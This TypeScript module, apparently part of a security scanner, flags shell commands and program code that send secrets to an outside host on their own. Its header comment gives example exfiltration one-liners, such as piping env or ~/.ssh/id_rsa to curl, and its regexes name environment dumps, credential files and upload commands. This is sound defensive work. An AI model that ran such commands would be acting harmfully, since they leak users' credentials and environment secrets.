/**
 * Secrets that a command sends by itself: `env | curl -d @- URL`, `curl -d @~/.ssh/id_rsa URL`,
 * `curl -H "$KEY" URL`, `node -e "fetch(URL, process.env)"`. No value of the program goes there.
 *
 * @module
 */
import type { RawFinding } from "../../finding.ts";
import { sinkOf } from "../../python/calls/sinks.ts";
import { CREDENTIALS, ENVIRONMENT } from "../flow/flow_rules.ts";
import type { ObservedCall } from "../flow/observed.ts";
import { isSensitivePath } from "../flow/sensitive_files.ts";
import { startedLines } from "../flow/files/starts.ts";
import { readByShell } from "../flow/starting/process.ts";
import { type Destination, destinationsIn, textsOf } from "../keys/destinations.ts";
import { misplaced } from "../keys/judge_keys.ts";
import { isKey } from "../keys/providers.ts";
import { report } from "../rule.ts";
import { runTexts } from "./programs.ts";
import { TALKS } from "./senders.ts";
import { holdsKeys, uploadedBy } from "./uploads.ts";

/** The command that another machine runs is in its words, unless quotes end before. */
const REMOTE_SHELL = /(?<=^|[\s;|&(`"'/])(?:ssh|plink)\s(?:"[^"]*"|'[^']*'|[^|;&\n"'])*/g;
const ENVIRONMENT_LISTED =
  /(^|[\s;|&(`"'/])(env|printenv|set|export(\s+-p)?|declare\s+-[xp]+)\s*(\||\)|`|>|;)|\/proc\/(self|\$\$|\d+)\/environ\b|\b(gci|Get-ChildItem|Get-Item|dir|ls)\s+env:/i;
/** Files that a command sends: `-d @file`, `< file`, `cat file |`. */
const FILES =
  /(?:@|<\s*|\b(?:cat|type|gc|Get-Content|xxd|base64(?:\s+-\S+)*|(?:gzip|xz|zstd)\s+-\S*c|tar\s+\S+(?:\s+-)?|zip(?:\s+-\S*)+|git\s+add(?:\s+-\S+)*|m?put)\s+|(?:--upload-file|--post-file|--body-file|-T|-InFile|-Attachments)[=\s]+)["']?([^\s"'|;)`]+)/gi;
/** The server's own file of keys as what is sent; `cat .env` beside a request gives a program its variables. */
const OWN_VARIABLES =
  /(?:@|(?:--upload-file|--post-file|--body-file|-T|-InFile)[=\s]+)["']?(?:\.\/)?(\.env(?!\.(?:example|sample|template|dist))(?:\.\w+)?)(?=["'\s|;)]|$)/;
/** An archive, and what is put into it. */
const ARCHIVED =
  /\b(?:tar\s+(?:-\S+\s+)*-?\w*c\w*f\s*|(?:zip|7z\s+a)\s+(?:-\S+\s+)*)([^\s"'|;&-][^\s"'|;&]*)\s+([^|;&]{1,500})/g;
const VARIABLES = /\$\{?(?:env:)?([A-Za-z_]\w*)|%([A-Za-z_]\w*)%/g;
/** Where things go that are not named by a host alone: buckets, people, accounts of machines. */
const PLACE =
  /\b(?:s3|gs|b2|sftp|rsync|ftp):\/\/[^\s"'/]+|[\w.+-]+@(?:[\w-]+\.)+[a-z]{2,}|(?<=\s):?[\w.-]+:(?=[\s/~\w]|$)/i;
const RUNS_CODE = /\b(python[\d.]*|node|deno|bun)\s(-\S+\s)*(-\w*[ce]|eval)\s/;
const MAX_TEXT = 4000;

/** The environment in Python and JavaScript, whole or a variable of it. */
const ENVIRONMENT_READ =
  /\bos\.environ(?:b?\b(?!\s*(?:\[|\.get\b|\.pop\b))|(?:\.get\(|\[)\s*["'](\w+)|)|\bgetenv\(\s*["'](\w+)|\bprocess\.env\b(?:\.(\w+)|\[["'](\w+)|)/g;
const SENDING = /\b(fetch|https?|axios|net|urlopen|urllib|requests|httpx|socket|http\.client)\b/;

/** The finding of a program's text that sends secrets. */
function sentByCode(call: ObservedCall, code: string): RawFinding | null {
  const destinations = destinationsIn(code.split(/[\s"'`,;()]+/), { addressesOnly: true });
  const [first] = destinations;
  if (first === undefined || !SENDING.test(code)) return null;
  const { names, node } = call;
  const file = code.split(/["'`]/).find(isSensitivePath);
  if (file !== undefined) {
    return report(CREDENTIALS, names.tree, node, `A program sends ${file} to ${first.host}`);
  }
  const read = [...code.matchAll(ENVIRONMENT_READ)].map(([, ...all]) =>
    all.find((each) => each !== undefined)
  );
  if (read.includes(undefined)) {
    const title = `A program sends the whole environment to ${first.host}`;
    return report(ENVIRONMENT, names.tree, node, title);
  }
  return ofKeys(call, read.filter((each) => each !== undefined), destinations);
}

function ofKeys(
  call: ObservedCall,
  variables: readonly string[],
  destinations: Destination[],
): RawFinding | null {
  const keys = variables.filter(isKey);
  return keys.length === 0
    ? null
    : misplaced(call, { keys, units: keys.map((key) => [key]), destinations, inHost: [] });
}

/** The finding of a command, or of a program's text, that sends secrets by itself. */
export function sentByCommand(call: ObservedCall): RawFinding | null {
  const { names, callee, given } = call;
  const name = callee?.name ?? "";
  const values = [...given.positional, ...given.keywords.values()];
  const whole = values.flatMap((each) => textsOf(names, each)).join(" ");
  const run = runTexts(names, name, given).flatMap(({ node, by }) =>
    by === "remote" ? [] : textsOf(names, node).map((text) => ({ by, text }))
  );
  const isShells = sinkOf(name) === "shell" || readByShell(call);
  const texts = [...run, { by: isShells ? "shell" : "list", text: whole }];
  for (const { argv } of startedLines(call)) {
    const upload = uploadedBy(names, argv);
    if (upload === null) continue;
    const title = `A command sends ${upload.file} to ${upload.to}`;
    return report(CREDENTIALS, names.tree, call.node, title);
  }
  for (const { by, text } of texts) {
    const told = text.slice(0, MAX_TEXT);
    const found = sentByLine(call, told, by === "shell") ??
      (by === "code" || RUNS_CODE.test(told) ? sentByCode(call, told) : null);
    if (found !== null) return found;
  }
  return null;
}

/** What a command line does on this machine where another's shell gets its output; null where none does. */
function besideRemoteShell(text: string): string | null {
  const local = text.replace(REMOTE_SHELL, (all) => / <\s*[^\s<"']+/.exec(all)?.[0] ?? "");
  return local === text ? null : local;
}

/** A file with keys that a command line sends, by itself or in an archive; null for none. */
function fileIn(text: string): string | null {
  const files = [...text.matchAll(FILES)].map((match) => match[1]!);
  const archived = [...text.matchAll(ARCHIVED)]
    .filter((match) => text.indexOf(match[1]!, match.index + match[0].length) > 0)
    .flatMap((match) => match[2]!.split(/\s+/));
  return [...files, ...archived].find(holdsKeys) ?? OWN_VARIABLES.exec(text)?.[1] ?? null;
}

/** The finding of a command line; only a shell knows of variables and pipes. */
function sentByLine(call: ObservedCall, text: string, isShells: boolean): RawFinding | null {
  const local = TALKS.test(text) ? text : besideRemoteShell(text);
  if (local === null) return null;
  const { names, node } = call;
  const destinations = destinationsIn(text.replace(VARIABLES, "x").split(/[\s"'=|;<>()`]+/));
  const to = destinations[0]?.host ?? PLACE.exec(text)?.[0];
  if (to === undefined) return null;
  if (isShells && ENVIRONMENT_LISTED.test(local)) {
    const title = `A command sends the whole environment to ${to}`;
    return report(ENVIRONMENT, names.tree, node, title);
  }
  const file = fileIn(local);
  if (file !== null) {
    return report(CREDENTIALS, names.tree, node, `A command sends ${file} to ${to}`);
  }
  if (!isShells) return null;
  const variables = [...local.matchAll(VARIABLES)].map(([, one, other]) => one ?? other!);
  return ofKeys(call, variables, destinations);
}
